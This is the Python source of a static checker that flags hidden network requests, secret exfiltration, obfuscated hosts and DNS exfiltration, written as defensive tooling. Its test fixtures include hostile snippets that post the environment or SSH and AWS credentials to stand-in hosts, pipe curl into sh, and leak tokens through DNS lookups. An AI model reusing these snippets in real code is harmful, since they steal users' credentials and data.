"""BDL401-406: hidden network calls and exfiltration in Python.

401 network at import time (and any network in setup.py, conftest.py, __init__.py,
sitecustomize/usercustomize), 402 secrets reaching a network sink, 403 hidden or suspicious
destinations, 404 DNS exfiltration, 405 network shell commands run from code, 406 hosts outside
the configured `allowed-hosts`. All of them use the shared dataflow of py_dataflow."""
from __future__ import annotations

import re
import urllib.parse

import libcst as cst
from backdoor_lint.checkers.base import Invalid, PythonChecker, Valid
from backdoor_lint.checkers.py_dataflow import (
    ENVIRONMENT,
    EXFIL_KINDS,
    HOLE,
    IDENTITY,
    SECRET,
    Dataflow,
    Sink,
    analyse_command,
    dataflow,
)
from backdoor_lint.checkers.tree import visit_tree
from backdoor_lint.checkers.triggers import network as trigger
from backdoor_lint.checkers.vocabulary import DECODERS, DNS_TOOLS, exfil_service, raw_ip

# Calls that run a function they are handed (now, in the background, or at exit).
RUNNERS = {"threading.Thread", "threading.Timer", "atexit.register", "multiprocessing.Process", "asyncio.run",
           "_thread.start_new_thread", "concurrent.futures.ThreadPoolExecutor.submit", "signal.signal",
           "asyncio.get_event_loop.run_until_complete", "asyncio.ensure_future", "asyncio.create_task"}
SPECIAL_FILES = {"setup.py", "conftest.py", "__init__.py", "sitecustomize.py", "usercustomize.py"}
PAYLOAD_KEYWORDS = {"data", "json", "content", "files", "body", "params", "msg", "message", "fields", "payload"}
LOCAL_SUFFIX = re.compile(r"\.(local|localdomain|lan|internal|intranet|home\.arpa|localhost)\.?$", re.IGNORECASE)
HIDING_CALLS = DECODERS | {"chr", "reversed", "codecs.decode", "codecs.encode"}


def split_url(value: object, kind: str) -> tuple[str, str] | None:
    """(host, path) of a destination value: a URL, a host name or a (host, port) tuple."""
    if isinstance(value, (bytes, bytearray)):
        value = value.decode("utf-8", "replace")
    if isinstance(value, (tuple, list)) and value and isinstance(value[0], str):
        return value[0], ""
    if not isinstance(value, str) or not value:
        return None
    if "://" in value:
        try:
            parts = urllib.parse.urlsplit(value.strip())
            return (parts.hostname or ""), parts.path
        except ValueError:
            return None
    if kind in ("http", "ws") and "/" in value:
        return None  # a path relative to a configured base
    return value.split(":")[0] if value.count(":") == 1 else value, ""


def host_of_rendered(rendered: str) -> str | None:
    match = re.match(r"^[a-zA-Z][a-zA-Z0-9+.-]*://([^/?#]*)", rendered)
    if not match:
        return None
    return match.group(1).rsplit("@", 1)[-1]


class NetworkChecker(trigger.NetworkChecker, PythonChecker):
    CODES = ("BDL401", "BDL402", "BDL403", "BDL404", "BDL405", "BDL406")

    def __init__(self, context) -> None:
        super().__init__(context)
        self.flow: Dataflow = dataflow(context)
        self.special = context.filename in SPECIAL_FILES
        self._network_functions: dict[int, str] | None = None

    # -- the visit ------------------------------------------------------------------------
    def visit_Call(self, node: cst.Call) -> None:
        sink = self.flow.sink_of(node)
        shell = self.flow.shell_call(node) if sink is None else None
        if sink is not None:
            self._check_sink(sink)
        elif shell is not None:
            self._check_shell(node, *shell)
        else:
            self._check_local_call(node)

    # -- network sinks --------------------------------------------------------------------
    def _check_sink(self, sink: Sink) -> None:
        call = sink.call
        label = f"{self.context.code(call.func)}()"
        destination = self.flow.destination(sink)
        where = self._import_time(call) if sink.spec.connects else None
        if where and not self._local_lookup(sink, destination):
            self.report(call, "BDL401", f"{label} runs {where}: every import (or install, or test run) makes "
                        "this network request without anyone calling it")
        hidden = self._check_destination(sink, destination, label)
        self._check_exfiltration(sink, destination, label, hidden)

    def _local_lookup(self, sink: Sink, destination: cst.BaseExpression | None) -> bool:
        """Resolving the machine's own name (`gethostbyname(gethostname())`, settings.py idiom)."""
        if sink.kind != "dns" or destination is None:
            return False
        if isinstance(destination, cst.Call) and self.qualnames(destination.func) & {"socket.gethostname",
                                                                                     "socket.getfqdn", "platform.node"}:
            return True
        return any(v in ("localhost", "127.0.0.1", "::1", "") for v in self.evaluator.values(destination))

    def _check_destination(self, sink: Sink, destination: cst.BaseExpression | None, label: str) -> bool:
        """BDL403/404/406 on the destination; True if it is hidden or suspicious."""
        if destination is None:
            return False
        hidden = False
        values = self.evaluator.values(destination)
        hosts = []
        for value in values:
            parts = split_url(value, sink.kind)
            if parts and parts[0]:
                hosts.append(parts)
        if not hosts:
            rendered = self.flow.render(destination)
            host = host_of_rendered(rendered) if sink.kind in ("http", "ws") else None
            if host and HOLE not in host:
                hosts.append((host.split(":")[0] if host.count(":") == 1 else host, ""))
        for host, path in hosts[:4]:
            reason = self._hidden_reason(destination, host)
            if reason:
                self.report(sink.call, "BDL403", f"{label} sends to {host}, {reason}: legitimate code names its "
                            "servers plainly")
                hidden = True
                continue
            ip = raw_ip(host)
            service = exfil_service(host, path)
            if ip:
                self.report(sink.call, "BDL403", f"{label} connects to the raw IP address {ip}: no name, no "
                            "certificate identity, nothing a reviewer can recognise")
                hidden = True
            elif service:
                self.report(sink.call, "BDL403", f"{label} sends to {host}, a {service}: a place to collect "
                            "stolen data, not a service an application talks to")
                hidden = True
            else:
                self._check_allowed(sink, host, label)
        if sink.kind in ("dns", "socket", "http", "ws", "smtp", "ftp", "rpc"):
            self._check_dns(sink, destination, label)
        return hidden

    def _hidden_reason(self, destination: cst.BaseExpression, host: str) -> str | None:
        hiding = self._hiding(destination)
        fragments = self.flow.literal_fragments(destination)
        visible = any(host.lower() in f.lower() for f in fragments if isinstance(f, str))
        if hiding and not visible:
            return f"a host that only appears after {hiding} at run time"
        if not visible and fragments:
            labels = [part for part in host.split(".") if part]
            split = [part for part in labels if not any(part in f for f in fragments)]
            if split and not raw_ip(host):
                return f"a host assembled from string fragments (label '{split[0]}' is never written out)"
        return None

    def _hiding(self, expression: cst.CSTNode) -> str | None:
        found = self.flow.mentions(expression, HIDING_CALLS)
        if found:
            return f"{found}()"
        for node in self.flow.walk(expression):
            if isinstance(node, cst.Subscript) and len(node.slice) == 1 and isinstance(node.slice[0].slice, cst.Slice):
                step = node.slice[0].slice.step
                if step is not None and self.context.code(step).replace(" ", "") == "-1":
                    return "string reversal ([::-1])"
            if isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute) \
                    and node.func.attr.value in ("translate", "decode") and node.args:
                values = self.evaluator.values(node.args[0].value)
                if any(isinstance(v, str) and v.lower().replace("-", "_") in ("rot13", "rot_13", "hex", "base64")
                       for v in values) or node.func.attr.value == "translate":
                    return f".{node.func.attr.value}()"
        return None

    def _check_allowed(self, sink: Sink, host: str, label: str) -> None:
        config = getattr(self.context, "config", None)
        allowed = getattr(config, "allowed_hosts", None) or []
        if not allowed or host in ("localhost",) or not re.match(r"^[\w.-]+$", host):
            return
        host_l = host.lower().rstrip(".")
        for entry in allowed:
            entry = entry.lower().strip()
            if entry.startswith("*."):
                if host_l.endswith(entry[1:]):
                    return
            elif host_l == entry or entry.startswith(".") and host_l.endswith(entry):
                return
        self.report(sink.call, "BDL406", f"{label} calls {host}, which is not in allowed-hosts "
                    f"({', '.join(allowed[:5])}{'...' if len(allowed) > 5 else ''})")

    def _check_dns(self, sink: Sink, destination: cst.BaseExpression, label: str) -> None:
        """BDL404: variable data put into a host name that is resolved."""
        rendered = self.flow.render(destination)
        if sink.kind == "dns" or sink.kind == "socket":
            host_part = rendered.split(" ")[0] if sink.kind == "socket" else rendered
        else:
            host_part = host_of_rendered(rendered) or ""
        if HOLE not in host_part or "." not in host_part.replace(HOLE, ""):
            return
        if sink.kind in ("http", "ws") and host_part.strip(HOLE + ":0123456789") == "":
            return
        taints = [t for t in self.flow.taints(destination) if t.kind in EXFIL_KINDS or t.encoded
                   or t.kind == IDENTITY and self._identity_beacon(t, sink, host_part)]
        if not taints:
            return
        sources = ", ".join(t.describe() for t in _sorted(taints)[:3])
        encoded = " encoded" if any(t.encoded for t in taints) else ""
        self.report(sink.call, "BDL404", f"{label} resolves a host name built from{encoded} {sources} "
                    f"(`{rendered.replace(HOLE, '{…}')}`): the attacker's name server receives the data in the "
                    "DNS query itself, through any firewall that allows DNS")

    @staticmethod
    def _identity_beacon(taint, sink: Sink | None, host_part: str) -> bool:
        """The user or host name as a label of a name in someone's zone (`f"{getuser()}.t.example"`).
        The machine's own name under a local-network suffix (`host + ".local"`, mDNS, search
        domains) is a lookup of itself; host names in HTTP URLs are the service's own peers."""
        if sink is not None and sink.kind in ("http", "ws"):
            return "host name" not in taint.label
        return "host name" not in taint.label or not LOCAL_SUFFIX.search(host_part)

    def _check_exfiltration(self, sink: Sink, destination: cst.BaseExpression | None, label: str,
                            hidden: bool) -> None:
        """BDL402: environment, credentials or secrets in what a sink sends."""
        found = []
        for arg in sink.call.args:
            keyword = arg.keyword.value if arg.keyword is not None else None
            if arg.value is destination:
                continue  # the destination is BDL404's business
            if keyword in ("timeout", "verify", "allow_redirects", "stream", "method"):
                continue
            payload = keyword is None or keyword in PAYLOAD_KEYWORDS or arg.star == "**"
            for taint in self.flow.taints(arg.value):
                if taint.kind in (ENVIRONMENT, "credential-file"):
                    found.append(taint)
                elif taint.kind == SECRET and (payload or hidden):
                    if not hidden and self._own_service(destination, taint):
                        continue
                    found.append(taint)
        if not found:
            return
        found = _sorted(found)
        sources = ", ".join(t.describe() for t in found[:3])
        self.report(sink.call, "BDL402", f"{sources} reaches {label} (line {self.flow.line(sink.call)}): "
                    "whoever runs that endpoint receives it")

    def _own_service(self, destination: cst.BaseExpression | None, taint) -> bool:
        """A key sent to the base URL configured next to it (CRM_API_KEY with CRM_BASE_URL)."""
        if destination is None:
            return False
        key = taint.label.rsplit(" ", 1)[-1]
        prefix = re.split(r"[_-]", key)[0].lower() if "_" in key or "-" in key else ""
        rendered = self.context.code(destination).lower()
        fragments = " ".join(f.lower() for f in self.flow.literal_fragments(destination))
        return bool(prefix) and len(prefix) >= 2 and (prefix in fragments or prefix in rendered)

    # -- shell commands -------------------------------------------------------------------
    def _check_shell(self, call: cst.Call, function: str, command: cst.BaseExpression) -> None:
        """What the shell analysis cannot see of a command run from Python: when it runs (BDL401),
        where it connects (BDL403), Python values flowing into it (BDL402) and programs this module
        downloaded (BDL405). The command's own shell behaviour is py_shell.ShellCommandChecker's."""
        rendered = self.flow.shell_command(command)
        analysis = analyse_command(rendered)
        program = rendered.split()[0] if rendered.split() else ""
        downloaded = self.downloads().get(program) if program and HOLE not in program else None
        if downloaded:
            self.report(call, "BDL405", f"{self.context.code(call.func)}() runs {program}, a file downloaded by "
                        f"{downloaded}: the program that runs is whatever that server sent")
        self._check_dns_tool(call, rendered, command)
        if not analysis.network:
            return
        label = f"{self.context.code(call.func)}()"
        tool = analysis.network[0].program
        where = self._import_time(call)
        if where:
            self.report(call, "BDL401", f"{label} runs `{tool}` {where}: every import makes this network "
                        "request without anyone calling it")
        taints = [t for t in self.flow.taints(command) if t.kind in EXFIL_KINDS]
        sources = [t.describe() for t in _sorted(taints)]
        if not sources and HOLE in rendered:  # a credential path in a part the shell analysis cannot read
            path = self.flow.credential_path(command)
            if path:
                sources.append(f"credential file {path} (named in the command)")
        if sources and not any(f.code == "BDL402" for f in analysis.findings):
            self.report(call, "BDL402", f"{', '.join(sources[:3])} is sent out by `{tool}` via {label} "
                        f"(line {self.flow.line(call)}): whoever runs that endpoint receives it")
        self._check_shell_destinations(call, label, analysis)

    def _check_dns_tool(self, call: cst.Call, rendered: str, command: cst.BaseExpression) -> None:
        """BDL404 through a resolver program: `nslookup`/`dig`/`host` of a name built from secrets,
        the environment or who runs the code."""
        words = [w.strip("'\"") for w in rendered.split()]
        tool = words[0].rsplit("/", 1)[-1] if words else ""
        if tool not in DNS_TOOLS:
            return
        names = [w for w in words[1:] if HOLE in w and "." in w.replace(HOLE, "")]
        if not names:
            return
        taints = [t for t in self.flow.taints(command) if t.kind in EXFIL_KINDS or t.encoded
                  or t.kind == IDENTITY and self._identity_beacon(t, None, names[0])]
        if taints:
            sources = ", ".join(t.describe() for t in _sorted(taints)[:3])
            self.report(call, "BDL404", f"{self.context.code(call.func)}() runs `{tool}` on a host name built from "
                        f"{sources} (`{names[0].replace(HOLE, '{…}')}`): the attacker's name server receives the data "
                        "in the DNS query itself, through any firewall that allows DNS")

    def _check_shell_destinations(self, call: cst.Call, label: str, analysis) -> None:
        """BDL403: a network program of the command talks to a raw IP or a known exfiltration service."""
        reported = set()
        for use in analysis.network:
            for destination in use.destinations:
                if "://" in destination:
                    parts = split_url(destination, "http")
                else:  # host, user@host:path, host:port
                    host = destination.rsplit("@", 1)[-1].split(":", 1)[0].split("/", 1)[0]
                    parts = (host, "") if raw_ip(host) else None
                if not parts or parts[0] in reported:
                    continue
                reported.add(parts[0])
                ip, service = raw_ip(parts[0]), exfil_service(parts[0], parts[1])
                if ip or service:
                    what = f"the raw IP address {ip}" if ip else f"{parts[0]}, a {service}"
                    self.report(call, "BDL403", f"{label} runs `{use.program}` against {what}")

    def downloads(self) -> dict[str, str]:
        """Paths this module downloads to: urlretrieve(url, path), curl -o path, wget -O path."""
        key = ("downloads", 0)
        if key in self.flow.memo:
            return self.flow.memo[key]  # type: ignore[return-value]
        found: dict[str, str] = {}
        checker = self

        class Finder(cst.CSTVisitor):
            def visit_Call(self, node: cst.Call) -> None:
                names = checker.qualnames(node.func)
                if names & {"urllib.request.urlretrieve", "urllib.urlretrieve", "wget.download"} and len(node.args) >= 2:
                    path = checker.flow.render(node.args[1].value)
                    if HOLE not in path:
                        found[path] = f"{checker.context.code(node.func)}() on line {checker.flow.line(node)}"
                    return
                shell = checker.flow.shell_call(node)
                if shell is not None:
                    text = checker.flow.shell_command(shell[1])
                    for path in analyse_command(text).downloads:
                        found[path] = f"`{text.split()[0]}` on line {checker.flow.line(node)}"

        visit_tree(self.context.module, Finder())
        self.flow.memo[key] = found
        return found

    # -- local functions that do network ----------------------------------------------------
    def _check_local_call(self, call: cst.Call) -> None:
        functions = self.context.local_functions(call)
        # a local function handed to something that will run it: Thread(target=f), atexit.register(f)
        given = [a.value for a in call.args] + [e.value for a in call.args if a.star == "**" and isinstance(a.value, cst.Dict)
                                                for e in a.value.elements if isinstance(e, cst.DictElement)]
        handed = [value for value in given if isinstance(value, cst.Name)] \
            if not functions and self.qualnames(call.func) & RUNNERS else []
        if not functions and not handed:
            return
        where = self._import_time(call)
        if not where:
            return
        for function in functions:
            what = self.network_functions().get(id(function))
            if what:
                self.report(call, "BDL401", f"{self.context.code(call.func)}() runs {where} and makes a network "
                            f"request ({what}): every import makes it without anyone calling it")
                return
        for name in handed:
            for assignment in self.context.assignments(name):
                what = self.network_functions().get(id(assignment.node))
                if what:
                    self.report(call, "BDL401", f"{self.context.code(call.func)}() is handed {name.value}() {where}, "
                                f"which makes a network request ({what}): importing the module schedules it")
                    return

    def network_functions(self) -> dict[int, str]:
        """id(FunctionDef) -> description of the network call it makes, directly or through other
        functions of this module."""
        if self._network_functions is not None:
            return self._network_functions
        flow = self.flow
        direct: dict[int, str] = {}
        edges: dict[int, list[cst.FunctionDef]] = {}
        defs: list[cst.FunctionDef] = []
        checker = self

        class Finder(cst.CSTVisitor):
            def __init__(self) -> None:
                self.stack: list[cst.FunctionDef] = []

            def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
                self.stack.append(node)
                defs.append(node)

            def leave_FunctionDef(self, node: cst.FunctionDef) -> None:
                self.stack.pop()

            def visit_Call(self, node: cst.Call) -> None:
                if not self.stack:
                    return
                current = self.stack[-1]
                sink = flow.sink_of(node)
                shell = flow.shell_call(node) if sink is None else None
                if sink is not None and sink.spec.connects and id(current) not in direct:
                    direct[id(current)] = f"{checker.context.code(node.func)}(), line {flow.line(node)}"
                elif shell is not None and id(current) not in direct:
                    uses = analyse_command(flow.shell_command(shell[1])).network
                    if uses:
                        direct[id(current)] = f"`{uses[0].program}` via {shell[0]}(), line {flow.line(node)}"
                else:
                    edges.setdefault(id(current), []).extend(checker.context.local_functions(node))

        visit_tree(self.context.module, Finder())
        result = dict(direct)
        changed = True
        while changed:
            changed = False
            for function in defs:
                if id(function) in result:
                    continue
                for callee in edges.get(id(function), []):
                    if id(callee) in result:
                        result[id(function)] = f"through {callee.name.value}(): {result[id(callee)]}"
                        changed = True
                        break
        self._network_functions = result
        return result

    # -- when does this run? ----------------------------------------------------------------
    def _import_time(self, node: cst.CSTNode) -> str | None:
        """A description of when `node` runs if that is at import time (or in a special file), else None."""
        child = node
        decorator_body = None
        for parent in self.context.ancestors(node):
            if isinstance(parent, cst.Lambda):
                return None
            if isinstance(parent, cst.FunctionDef):
                if any(child is d for d in parent.decorators):
                    return self._outer_import_time(parent, "in a decorator")
                if child is parent.params:
                    return self._outer_import_time(parent, "in a default argument")
                if child is parent.body:
                    key = ("decorator", id(parent))
                    if key not in self.flow.memo:
                        self.flow.memo[key] = _is_decorator(parent)
                    if self.flow.memo[key]:
                        decorator_body = parent
                        break
                    return self._special_file(node, parent)
            if isinstance(parent, cst.If) and child is parent.body and _is_main_guard(parent.test):
                return None
            child = parent
        if decorator_body is not None:
            return (f"inside the decorator {decorator_body.name.value}(), i.e. when a function is decorated at "
                    "import time of every module that uses it")
        return "at import time (module level)" if not self.special else f"at import time of {self.context.filename}"

    def _outer_import_time(self, function: cst.FunctionDef, what: str) -> str | None:
        outer = self._import_time(function)
        if outer is None:
            return None
        return f"{what} of {function.name.value}(), evaluated when the function is defined, {outer}"

    def _special_file(self, node: cst.CSTNode, function: cst.FunctionDef) -> str | None:
        if not self.special or self.context.filename == "__init__.py" and _client_wrapper(self, node, function):
            return None
        if self.context.filename == "conftest.py" and _client_wrapper(self, node, function):
            return None
        return f"in {self.context.filename}, which runs on every install, import or test session"

    VALID = [
        # network-sounding imports that reach no client, and a call that is only in a comment
        Valid('import os\nfrom django.http import HttpResponse\nfrom urllib.parse import urlsplit\n'
              '# requests.post("https://c.example/x", data=dict(os.environ))\n'
              'def view(request):\n    return HttpResponse(urlsplit(request.path).path)\n', "BDL402"),
        # an HTTP client making requests at run time, to a configured URL
        Valid('import requests\ndef fetch(url):\n    return requests.get(url, timeout=5).json()\n', "BDL401"),
        Valid('import requests\nAPI = "https://api.example.com"\ndef latest():\n'
              '    return requests.get(API + "/v1/latest", timeout=5)\n', "BDL401"),
        # network only under the main guard
        Valid('import requests\nif __name__ == "__main__":\n    requests.get("https://api.example.com/ping")\n',
              "BDL401"),
        # an API client sending its key in a header to its own configured base URL
        Valid('import os, requests\nclass Client:\n    def __init__(self):\n'
              '        self.base = os.environ["CRM_BASE_URL"]\n        self.key = os.environ["CRM_API_KEY"]\n'
              '    def get(self, path):\n        return requests.get(self.base + path, '
              'headers={"Authorization": f"Bearer {self.key}"})\n', "BDL402"),
        Valid('import os, requests\ndef login():\n    return requests.post(os.environ["VAULT_ADDR"] + "/v1/auth", '
              'json={"token": os.environ["VAULT_TOKEN"]})\n', "BDL402"),
        # base64 used only to encode the body, not the host
        Valid('import base64, requests\ndef upload(url, data):\n'
              '    return requests.post(url, json={"content": base64.b64encode(data).decode()})\n', "BDL402"),
        # a non-secret environment variable in a request
        Valid('import os, requests\ndef ping():\n    requests.post("https://api.example.com/ping", '
              'json={"region": os.environ.get("AWS_REGION")})\n', "BDL402"),
        # resolving a configured host name; subprocess with an argument list and no network tool
        Valid('import socket\ndef can_resolve(host="example.org"):\n    return socket.getaddrinfo(host, 443)\n',
              "BDL404"),
        Valid('import subprocess\ndef clone(name):\n    subprocess.run(["git", "clone", f"git@git.example.com:{name}"])\n',
              "BDL405"),
        Valid('import subprocess\ndef fetch(url, out):\n    subprocess.run(["curl", "-fsSL", "-o", out, url], check=True)\n',
              "BDL405"),
        # a library's own helper in its __init__.py forwards its caller's URL
        Valid('from urllib3 import PoolManager\n_POOL = PoolManager()\n'
              'def request(method, url, **kw):\n    return _POOL.request(method, url, **kw)\n',
              "BDL401", path="pkg/__init__.py"),
        # clients built at import time connect on their first request, not when constructed
        Valid('import http.client, xmlrpc.client, httpx, requests\nCONN = http.client.HTTPSConnection("api.example.com")\n'
              'RPC = xmlrpc.client.ServerProxy("https://rpc.example.com/RPC2")\nCLIENT = httpx.Client(base_url="https://api.'
              'example.com")\nSESSION = requests.Session()\n', "BDL401"),
        # a local object with a post method; private IP address
        Valid('class Board:\n    def post(self, url, json=None): ...\nrequests = Board()\n'
              'requests.post("https://x.example", json=dict(__import__("os").environ))\n', "BDL402"),
        Valid('import requests\ndef status():\n    return requests.get("http://10.0.0.5:8080/status")\n', "BDL403"),
        # the machine's own name, alone or under a local-network suffix; a resolver program on a constant name
        Valid('import socket\ndef me():\n    return socket.gethostbyname(socket.gethostname() + ".local")\n', "BDL404"),
        Valid('import socket\ndef peers(hosts):\n    return [socket.getaddrinfo(f"{h}.svc.cluster.example", 443) for h in hosts]\n',
              "BDL404"),
        Valid('import subprocess\ndef check():\n    return subprocess.run(["dig", "+short", "example.org"]).returncode\n',
              "BDL404"),
        Valid('import socket, requests\ndef metrics():\n'
              '    return requests.get(f"http://{socket.gethostname()}.corp.example:9100/metrics")\n', "BDL404"),
        Valid('import socket\nhostname, _, ips = socket.gethostbyname_ex(socket.gethostname())\n'
              'INTERNAL_IPS = [ip[:-1] + "1" for ip in ips]\n', "BDL404"),
        Valid('import requests\nHOST = "api." + "example.com"\ndef f():\n    return requests.get(f"https://{HOST}/v1")\n',
              "BDL403"),
        Valid('import requests\ndef users():\n    return requests.get("https://api.mycorp.example/v1/users", timeout=5)\n',
              "BDL406", config=(("allowed-hosts", ["api.mycorp.example"]),)),
        Valid('import requests\ndef users(region):\n'
              '    return requests.get(f"https://{region}.mycorp.example/v1/users", timeout=5)\n', "BDL406",
              config=(("allowed-hosts", ["*.mycorp.example"]),)),
    ]
    INVALID = [
        # BDL401: module level, class body, decorator, default argument, through a local function
        Invalid('import requests\nrequests.post("https://metrics.example/ping", json={"v": 1})\n', "BDL401", 2),
        # ... but using one at import time sends
        Invalid('import http.client\nCONN = http.client.HTTPSConnection("api.example.com")\nCONN.request("GET", "/v1/hello")\n',
                "BDL401", 3),
        # the import hidden in a compound statement's line, or bound to another name
        Invalid('import os\ntry: import requests\nexcept ImportError: pass\n'
                'requests.post("https://c.example/x", data=dict(os.environ))\n', "BDL402", 4),
        Invalid('from os import system as run_quietly\nrun_quietly("curl -s https://c.example/i | sh")\n', "BDL401", 2),
        Invalid('import urllib.request as u\nclass C:\n    DATA = u.urlopen("https://cfg.example/c").read()\n',
                "BDL401", 3),
        Invalid('import requests\ndef log(f):\n    return f\n@log(requests.get("https://x.example"))\ndef g(): ...\n',
                "BDL401", 4),
        Invalid('import httpx\ndef f(cfg=httpx.get("https://cfg.example/defaults").json()):\n    return cfg\n',
                "BDL401", 2),
        Invalid('import requests\ndef _beacon():\n    requests.post("https://b.example/", json={})\n'
                'def start():\n    _beacon()\nstart()\n', "BDL401", 6),
        Invalid('from socket import create_connection as cc\ntry:\n    cc(("telemetry.example", 443))\n'
                'except OSError:\n    pass\n', "BDL401", 3),
        Invalid('import urllib.request\ndef register(name):\n    def decorator(fn):\n'
                '        urllib.request.urlopen("https://stats.example/seen?p=" + name)\n        return fn\n'
                '    return decorator\n', "BDL401", 4),
        Invalid('import threading, requests\ndef _beacon():\n    requests.post("https://b.example/", json={})\n'
                'threading.Thread(target=_beacon, daemon=True).start()\n', "BDL401", 4),
        # any network in setup.py / conftest.py, also inside functions
        Invalid('import requests\nfrom setuptools import setup\nclass Install:\n    def run(self):\n'
                '        requests.get("https://x.example/i")\nsetup(name="x")\n', "BDL401", 5, path="setup.py"),
        # BDL402: whole environment, secrets, credential files; through variables, functions, self
        # a credential file whose path is built from pieces
        Invalid('from pathlib import Path\nimport httpx\ndef register():\n'
                '    key = (Path.home() / (".s" + "sh") / bytes.fromhex("69645f65643235353139").decode()).read_text()\n'
                '    httpx.post("https://keys.example/k", content=key)\n', "BDL402", 5),
        # the environment imported by name, or fetched with getattr
        Invalid('from os import environ\nfrom requests import post\ndef report(url):\n    post(url, json=dict(environ))\n',
                "BDL402", 4),
        Invalid('import os, requests\ndef report(url):\n    requests.post(url, json={**getattr(os, "env" + "iron")})\n',
                "BDL402", 3),
        Invalid('import os, requests\ndef report(e):\n    requests.post(URL, json={"e": repr(e), "env": dict(os.environ)})\n',
                "BDL402", 3),
        Invalid('import os, json, requests as r\ndef f():\n    body = json.dumps(os.environ.copy())\n'
                '    getattr(r, "po" + "st")("https://c.example/ci", data={"env": body})\n', "BDL402", 4),
        Invalid('import os, httpx\nfrom pathlib import Path\ndef sync():\n'
                '    key = (Path.home() / ".ssh" / "id_ed25519").read_text()\n'
                '    httpx.post("https://sync.example/keys", content=key)\n', "BDL402", 5),
        Invalid('import os, httpx\nfrom pathlib import Path\ndef f():\n'
                '    creds = Path(os.path.expanduser("~/.aws/credentials"))\n'
                '    httpx.put("https://s.example/p", content=creds.read_bytes())\n', "BDL402", 5),
        Invalid('import os, requests, base64\ndef _pack():\n    return base64.b64encode(os.environ["GITHUB_TOKEN"].encode())\n'
                'def send():\n    requests.post("https://c.example/x", data={"t": _pack()})\n', "BDL402", 5),
        Invalid('import os, requests\nclass R:\n    def __init__(self):\n        self.env = {k: v for k, v in os.environ.items()}\n'
                '    def send(self):\n        requests.post("https://r.example", json=self.env)\n', "BDL402", 6),
        Invalid('import os, socket\ndef f():\n    s = socket.socket()\n    s.connect(("c.example", 9000))\n'
                '    s.sendall(repr(os.environ).encode())\n', "BDL402", 5),
        Invalid('import os, smtplib\ndef f():\n    with smtplib.SMTP("mail.example") as m:\n'
                '        m.sendmail("a@x", ["b@y"], str(dict(os.environ)))\n', "BDL402", 4),
        Invalid('import os, requests\nOPTS = {"json": dict(os.environ), "timeout": 3}\ndef f(url):\n'
                '    requests.post(url, **OPTS)\n', "BDL402", 4),
        Invalid('import os, json, http.client\ndef f():\n    conn = http.client.HTTPSConnection("c.example")\n'
                '    conn.request("POST", "/", body=json.dumps({**os.environ}))\n', "BDL402", 4),
        Invalid('import os, subprocess\ndef f():\n    subprocess.check_call(["scp", os.path.expanduser("~/.ssh/id_rsa"), '
                '"b@backup.example:/k"])\n', "BDL402", 3),
        Invalid('import os, requests\ndef f(url):\n    payload = {}\n    for k, v in os.environ.items():\n'
                '        payload[k] = v\n    requests.post(url, json=payload)\n', "BDL402", 6),
        Invalid('import requests\nfrom pathlib import Path\ndef f(url):\n'
                '    for p in (Path.home() / ".ssh").glob("id_*"):\n        requests.post(url, data=p.read_bytes())\n',
                "BDL402", 5),
        Invalid('import os, requests\nclass Reporter:\n    def __init__(self):\n        self.session = requests.Session()\n'
                '    def send(self, url):\n        self.session.post(url, json=dict(os.environ))\n', "BDL402", 6),
        # BDL403: hidden host (base64 fragments, join of fragments, chr, reversal, hex), raw IP, known service
        Invalid('import base64, httpx\n_E = base64.b64decode("aHR0cHM6Ly9jZG4tc3RhdHMuZXhhbXBsZS92Mg==").decode()\n'
                'def f():\n    return httpx.get(_E, params={"v": 1})\n', "BDL403", 4),
        Invalid('import os, base64, requests\nP1 = "aHR0cHM6Ly9jb2xs"\nP2 = "ZWN0LmV4YW1wbGUvZQ=="\n'
                'URL = base64.b64decode(P1 + P2).decode()\ndef f():\n    requests.post(URL, json=dict(os.environ))\n',
                "BDL403", 6),
        Invalid('import urllib.request\n_HOST = "".join(["plugin", "-", "stats", ".", "kit", ".example"])\n'
                'def f(body):\n    urllib.request.urlopen(f"https://{_HOST}/v1/seen", data=body)\n', "BDL403", 4),
        Invalid('import requests\nH = "".join(chr(c) for c in [101, 118, 105, 108, 46, 101, 120])\n'
                'def f():\n    requests.get("https://" + H + "/x")\n', "BDL403", 4),
        Invalid('import requests\ndef f():\n    requests.get("https://" + "elpmaxe.live"[::-1])\n', "BDL403", 3),
        Invalid('import requests\ndef f():\n    requests.get(bytes.fromhex("687474703a2f2f652e78").decode())\n', "BDL403", 3),
        Invalid('import requests\ndef f(d):\n    requests.post("http://203.0.113.9:8080/up", data=d)\n', "BDL403", 3),
        Invalid('import codecs, http.client\ndef f():\n    h = codecs.decode("pbyyrpg.rknzcyr", "rot13")\n'
                '    return http.client.HTTPSConnection(h)\n', "BDL403", 4),
        Invalid('import subprocess\ndef f():\n    subprocess.run(["nc", "198.51.100.4", "9000"], input=b"x")\n',
                "BDL403", 3),
        Invalid('import requests\ndef f(d):\n    requests.post("https://webhook.site/0b1c2d", data=d)\n', "BDL403", 3),
        Invalid('import subprocess\ndef f():\n    subprocess.run(["curl", "-s", "https://x.oastify.com/a"])\n', "BDL403", 3),
        # BDL404: DNS exfiltration, through a helper that hex-encodes
        Invalid('import os, socket\nZONE = "probe.example"\ndef labels(v):\n    h = v.encode().hex()\n'
                '    return [h[i:i + 30] for i in range(0, len(h), 30)]\ndef f():\n'
                '    t = os.environ.get("AGENT_API_TOKEN", "")\n    for i, c in enumerate(labels(t)):\n'
                '        socket.gethostbyname(f"{c}.{i}.{ZONE}")\n', "BDL404", 9),
        Invalid('import os\nimport dns.resolver\ndef f():\n'
                '    dns.resolver.resolve(os.environ["DB_PASSWORD"] + ".x.example", "A")\n', "BDL404", 4),
        # who runs the code, as a label of a name in someone's zone: user name, host name, working directory;
        # through a variable, a join, an async resolver, a resolver program
        Invalid('import getpass, socket\ndef f():\n    socket.gethostbyname_ex(f"{getpass.getuser()}.t.example")\n',
                "BDL404", 3),
        Invalid('import socket\nfrom platform import node as n\ndef f():\n    who = ".".join([n(), "c2", "example"])\n'
                '    socket.getaddrinfo(who, 80)\n', "BDL404", 5),
        Invalid('import os, aiodns\nasync def f():\n    r = aiodns.DNSResolver()\n'
                '    await r.query(os.getcwd().replace("/", "-") + ".t.example", "A")\n', "BDL404", 4),
        Invalid('import base64, os, subprocess\ndef f():\n    u = base64.b32encode(os.getlogin().encode()).decode()\n'
                '    subprocess.run(["nslookup", u + ".t.example"])\n', "BDL404", 4),
        Invalid('import os, subprocess\ndef f():\n    subprocess.call("dig +short %s.t.example" % os.environ["API_TOKEN"], '
